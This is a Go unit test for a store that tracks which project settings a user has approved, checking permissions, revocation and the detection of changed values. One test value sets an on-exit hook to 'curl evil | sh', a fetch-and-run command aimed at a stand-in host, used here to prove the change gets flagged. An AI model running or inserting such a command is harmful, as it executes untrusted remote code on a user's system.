package trust

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestApproveAndCompare(t *testing.T) {
	s := Store{Dir: filepath.Join(t.TempDir(), "trust")}
	proj := "/src/app"
	if got, err := s.Approved(proj); err != nil || len(got) != 0 {
		t.Fatalf("Approved before any approval = %v, %v", got, err)
	}
	set := Settings{"on-exit": `"notify-send done"`, "env": `["GITHUB_TOKEN"]`}
	if err := s.Approve(proj, set); err != nil {
		t.Fatal(err)
	}
	got, err := s.Approved(proj)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(set, got); diff != "" {
		t.Errorf("approved (-want +got):\n%s", diff)
	}
	// Readable by the user only.
	entries, _ := os.ReadDir(s.Dir)
	for _, e := range entries {
		if info, _ := e.Info(); info.Mode().Perm()&0o077 != 0 {
			t.Errorf("%s is %v, want 0600", e.Name(), info.Mode().Perm())
		}
	}
	if st, _ := os.Stat(s.Dir); st.Mode().Perm()&0o077 != 0 {
		t.Errorf("the trust folder is %v, want 0700", st.Mode().Perm())
	}
	// Another project has approved nothing.
	if got, _ := s.Approved("/src/other"); len(got) != 0 {
		t.Errorf("another project sees %v", got)
	}
	// A changed value and a new key are both unapproved; an equal one is not.
	want := Settings{"on-exit": `"curl evil | sh"`, "env": `["GITHUB_TOKEN"]`, "sandbox": `"host"`}
	ch := Unapproved(got, want)
	wantCh := []Change{{Key: "on-exit", Was: `"notify-send done"`, Now: `"curl evil | sh"`}, {Key: "sandbox", Now: `"host"`}}
	if diff := cmp.Diff(wantCh, ch); diff != "" {
		t.Errorf("Unapproved (-want +got):\n%s", diff)
	}
	if err := s.Revoke(proj); err != nil {
		t.Fatal(err)
	}
	if got, _ := s.Approved(proj); len(got) != 0 {
		t.Errorf("after Revoke: %v", got)
	}
	if err := s.Revoke(proj); err != nil {
		t.Errorf("a second Revoke: %v", err)
	}
}
